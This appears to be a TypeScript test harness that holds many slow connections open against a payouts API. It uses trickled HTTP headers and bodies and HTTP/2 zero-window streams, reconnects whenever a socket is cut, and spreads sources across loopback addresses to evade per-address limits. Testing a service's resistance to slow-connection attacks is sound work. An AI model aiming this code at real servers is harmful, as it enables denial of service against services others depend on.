import { connect, type Socket } from "node:net";
import { flag, frame, frameType, headers, preface, request, settings } from "./http2-frames.ts";

export interface Target {
  readonly host: string;
  readonly port: number;
  /** An API key: who attacks may well be a customer. */
  readonly key: string;
}

const TRICKLE_MS = 1000;
const PAUSE_MS = 100;
/** Streams of each session whose window stays shut. */
const STREAMS = 2;

type Slow = (socket: Socket, target: Target, every: (act: () => void) => void) => void;

const KINDS: readonly Slow[] = [
  function silent() {},
  function headerTrickle(socket, _target, every) {
    socket.write("GET /v1/payouts HTTP/1.1\r\nHost: a\r\nX-A: ");
    every(() => socket.write("a"));
  },
  function bodyTrickle(socket, { key }, every) {
    socket.write(
      `POST /v1/payouts HTTP/1.1\r\nHost: a\r\nAuthorization: Bearer ${key}\r\n` +
        "Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n",
    );
    every(() => socket.write(" "));
  },
  function shutWindow(socket, { key }) {
    const list = request("/v1/payouts?pageSize=1", {
      more: [["authorization", `Bearer ${key}`]],
    });
    const streams = Array.from({ length: STREAMS }, (_, index) => headers(2 * index + 1, list));
    const ack = frame(frameType.settings, flag.ack);
    socket.write(Buffer.concat([Buffer.from(preface), settings({ 4: 0 }), ack, ...streams]));
  },
];

/**
 * Keeps `count` slow sockets open, of each kind as many, from several addresses of the loopback
 * network; who is cut comes again at once.
 */
export class SlowSockets {
  readonly #target: Target;
  readonly #open = new Set<Socket>();
  #stopped = false;
  /** How often one was cut, and came again. */
  cut = 0;

  constructor(target: Target) {
    this.#target = target;
  }

  get open(): number {
    return this.#open.size;
  }

  async start(count: number): Promise<void> {
    // In small groups, with pauses: slow sockets are no flood, which is another attack.
    for (let index = 0; index < count; index += 50) {
      const group = Array.from({ length: Math.min(50, count - index) }, (_, i) => index + i);
      await Promise.all(group.map((each) => this.#attack(each)));
      await new Promise((resolve) => setTimeout(resolve, PAUSE_MS));
    }
  }

  stop(): void {
    this.#stopped = true;
    for (const socket of this.#open) socket.destroy();
  }

  #attack(index: number): Promise<void> {
    const { host, port } = this.#target;
    // Fewer of each address than are bounded.
    const socket = connect({ host, port, localAddress: `127.0.0.${2 + (index % 8)}` });
    const timers: NodeJS.Timeout[] = [];
    return new Promise((resolve) => {
      socket.on("error", () => {});
      socket.once("connect", () => {
        this.#open.add(socket);
        KINDS[index % KINDS.length]?.(socket, this.#target, (act) => {
          timers.push(setInterval(act, TRICKLE_MS));
        });
        socket.resume();
        resolve();
      });
      socket.once("close", () => {
        this.#open.delete(socket);
        for (const timer of timers) clearInterval(timer);
        resolve();
        if (this.#stopped) return;
        this.cut += 1;
        setTimeout(() => {
          if (!this.#stopped) void this.#attack(index);
        }, 100);
      });
    });
  }
}
